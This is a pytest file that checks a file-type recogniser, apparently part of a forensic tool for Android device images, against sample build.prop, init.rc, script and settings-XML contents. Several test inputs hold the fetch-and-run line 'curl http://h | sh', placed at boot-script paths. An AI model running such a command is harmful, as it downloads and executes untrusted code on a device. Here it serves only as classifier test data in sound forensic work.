from __future__ import annotations

import pytest

from gifthorse.evidence.recognise import HEAD, recognise

PROPERTIES = b"ro.build.type=user\nro.build.tags=release-keys\nservice.adb.tcp.port=5555\n"


def kind(text: bytes, path: str) -> str:
    return recognise(text[:HEAD], len(text), path, lambda: None, lambda: text).kind


@pytest.mark.parametrize(
    ("text", "path", "expected"),
    [
        (PROPERTIES + b"import /oem/oem.prop ro.*\n", "system/build.prop", "properties"),
        (PROPERTIES + b"import /oem/oem.prop ro.*\n", "renamed", "properties"),
        (PROPERTIES + b"\0\0\0", "system/build.prop", "properties"),
        (b"#" + b"x" * 6000 + b"\n" + PROPERTIES, "system/build.prop", "properties"),
        (b"import /init.x.rc\non boot\n    setprop ro.a b\n", "init.rc", "init-rc"),
        (b"curl http://h | sh\n", "system/bin/care", "script"),
        (b"curl http://h | sh\n", "system/etc/care.sh", "script"),
        (b"curl http://h | sh\n", "system/etc/init.d/99care", "script"),
        (b"some words\n", "system/etc/words", "other"),
        (b"a" + b"\0" * 10 + b"b", "system/bin/care", "other"),
        (b"<settings><setting/></settings>", "data/system/users/0/settings_secure.xml", "state-xml"),
        (b"ABX\0\x10", "data/system/users/0/settings_secure.xml", "state-xml"),
        (b"ABX\0\x10", "data/system/appops.xml", "binary-xml"),
        (b"<settings><setting/></settings>", "system/etc/settings.xml", "other"),
    ],
)
def test_texts(text: bytes, path: str, expected: str) -> None:
    assert kind(text, path) == expected
